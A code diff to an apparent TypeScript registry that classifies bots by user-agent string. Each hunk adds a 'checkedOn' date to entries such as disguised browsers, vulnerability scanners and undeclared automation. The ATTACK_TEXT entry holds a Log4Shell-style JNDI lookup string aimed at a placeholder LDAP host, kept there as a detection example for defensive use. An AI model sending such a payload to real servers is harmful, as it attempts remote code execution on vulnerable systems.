@@ -9,6 +9,7 @@ export const UNIDENTIFIED_BOT: RegisteredBot = {
   provider: 'Unknown',
   category: 'unidentified',
   documentation: null,
+  checkedOn: '2026-11-20',
   tokens: [],
   examples: [
     'SomeUnknownBot/1.1',
@@ -24,6 +25,7 @@ export const NO_USER_AGENT: RegisteredBot = {
   provider: 'Unknown',
   category: 'unidentified',
   documentation: null,
+  checkedOn: '2026-11-20',
   tokens: [],
   examples: ['', '-'],
 };
@@ -36,6 +38,7 @@ export const DISGUISED_BROWSER: RegisteredBot = {
   provider: 'Unknown',
   category: 'disguised',
   documentation: null,
+  checkedOn: '2026-11-20',
   tokens: [],
   examples: [
     'Mozilla/5.0',
@@ -55,6 +58,7 @@ export const VULNERABILITY_SCANNER: RegisteredBot = {
   provider: 'Unknown',
   category: 'security_scanner',
   documentation: null,
+  checkedOn: '2026-11-23',
   tokens: [],
   examples: [],
 };
@@ -67,6 +71,7 @@ export const ATTACK_TEXT: RegisteredBot = {
   provider: 'Unknown',
   category: 'security_scanner',
   documentation: null,
+  checkedOn: '2026-11-23',
   tokens: [],
   examples: [
     '${jndi:ldap://192.0.2.1:1389/a}',
@@ -85,6 +90,7 @@ export const UNDECLARED_AUTOMATION: RegisteredBot = {
   ...AUTOMATION,
   provider: 'Unknown',
   documentation: null,
+  checkedOn: '2026-11-28',
   tokens: [],
   examples: [],
 };
